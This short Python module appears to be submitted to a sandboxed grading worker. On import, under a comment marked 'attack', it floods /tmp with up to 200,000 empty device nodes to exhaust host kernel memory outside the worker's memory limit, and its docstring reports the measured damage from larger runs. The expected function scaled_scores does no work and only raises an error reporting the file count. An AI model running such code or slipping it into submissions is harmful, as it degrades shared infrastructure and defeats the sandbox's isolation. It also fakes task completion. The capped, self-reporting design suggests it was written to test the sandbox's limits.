"""Fill the kernel's memory through /tmp: empty files cost the 64 MB tmpfs nothing of its size but about a
kilobyte of kernel memory each, outside the worker's memory limit (2.1 to 2.7 million files in 22 s added
2.4 to 3.0 GiB on the host). Here at most 200 000 files, stopped by the first refusal; the count must stay
under the cap on /tmp's inodes."""
import os
import time

# --- attack ---
os.mkdir("/tmp/flood")
MADE, STOPPED, started = 0, "nothing", time.monotonic()
try:
    while MADE < 200_000 and time.monotonic() - started < 10:
        os.mknod(f"/tmp/flood/{MADE}")
        MADE += 1
except OSError as exc:
    STOPPED = os.strerror(exc.errno)


def scaled_scores(Q, K):
    raise RuntimeError(f"made {MADE} files in /tmp, stopped by {STOPPED}")
